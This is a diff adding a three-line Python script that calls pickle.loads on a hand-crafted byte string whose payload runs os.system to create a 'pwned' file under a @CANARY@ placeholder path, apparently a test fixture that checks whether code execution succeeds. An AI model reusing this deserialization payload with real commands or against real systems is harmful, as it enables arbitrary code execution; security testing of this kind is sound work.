@@ -1,0 +1,3 @@
+import pickle
+
+print(pickle.loads(b"cos\nsystem\n(S'touch @CANARY@/pwned'\ntR."))
